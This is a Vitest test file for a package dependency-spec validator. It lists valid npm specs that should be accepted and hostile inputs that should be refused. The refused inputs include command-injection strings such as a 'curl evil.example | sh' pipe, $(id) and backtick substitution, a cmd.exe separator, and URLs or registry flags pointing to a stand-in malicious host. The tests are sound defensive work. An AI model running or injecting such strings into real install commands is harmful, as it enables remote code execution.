import { describe, expect, it } from 'vitest'
import { isDependencySpec } from '../../src/registry/dependencySpec.ts'

describe('isDependencySpec', () => {
  it.each([
    ['bare name', 'clsx'],
    ['scoped name', '@lobby/headless'],
    ['caret range', 'left-pad@^1.3.0'],
    ['scoped with tilde range', '@radix-ui/react-slot@~1.2'],
    ['exact prerelease', 'react@19.0.0-rc.1'],
    ['x-range', 'tailwind-merge@3.x'],
    ['star', 'clsx@*'],
    ['comparator set', 'react@>=18.0.0 <20'],
    ['union of ranges', 'react@^18 || ^19'],
    ['hyphen range', 'zod@3.0.0 - 4.1.0'],
    ['dist-tag', 'next@canary'],
    ['dots, underscores and tildes inside a name', 'lodash.merge_x~y'],
  ])('accepts a %s: %j', (_name, spec) => {
    expect(isDependencySpec(spec)).toBe(true)
  })

  it.each([
    ['shell command separator', 'left-pad; curl evil.example | sh'],
    ['cmd.exe separator', 'left-pad&calc.exe'],
    ['command substitution', 'left-pad@$(id)'],
    ['backticks', 'left-pad@`id`'],
    ['redirect in a range', 'left-pad@^1 > out.txt'],
    ['newline', 'left-pad\ncalc'],
    ['space in the name', 'left pad'],
    ['https URL', 'https://evil.example/pkg.tgz'],
    ['git URL', 'git+https://github.com/evil/pkg.git'],
    ['github shorthand', 'evil/pkg'],
    ['file protocol', 'file:../evil'],
    ['alias protocol', 'left-pad@npm:evil-pkg'],
    ['URL as the version', 'left-pad@https://evil.example/x.tgz'],
    ['relative path', './evil'],
    ['absolute path', '/tmp/evil.tgz'],
    ['a flag', '--global'],
    ['a short flag', '-g'],
    ['a flag with a value', '--registry=https://evil.example'],
    ['leading dot', '.evil'],
    ['leading underscore', '_evil'],
    ['uppercase', 'Left-Pad'],
    ['empty version', 'left-pad@'],
    ['empty', ''],
    ['scope without a name', '@lobby/'],
    ['two scopes', '@a/@b/c'],
    ['name too long', 'a'.repeat(215)],
  ])('refuses a %s: %j', (_name, spec) => {
    expect(isDependencySpec(spec)).toBe(false)
  })
})
